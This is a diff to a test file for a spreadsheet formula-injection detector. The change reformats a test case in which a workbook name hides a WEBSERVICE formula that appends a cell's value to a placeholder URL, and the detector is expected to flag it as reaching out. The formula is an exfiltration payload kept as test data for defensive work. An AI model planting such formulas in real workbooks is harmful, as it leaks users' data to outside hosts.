@@ -145,7 +145,10 @@ describe('formula injection', () => {
   })
 
   test('a formula that hides behind a name', () => {
-    const names = [{ name: 'total', refersTo: 'WEBSERVICE("http://x?"&A!$A$1)' }, { name: 'plain', refersTo: 'A!$A$1' }]
+    const names = [
+      { name: 'total', refersTo: 'WEBSERVICE("http://x?"&A!$A$1)' },
+      { name: 'plain', refersTo: 'A!$A$1' },
+    ]
     expect(findInjections({ ...workbookOf({ A: [[1, '=total']] }), names })).toMatchObject([
       { cell: 'total', code: 'reaches_out' },
     ])
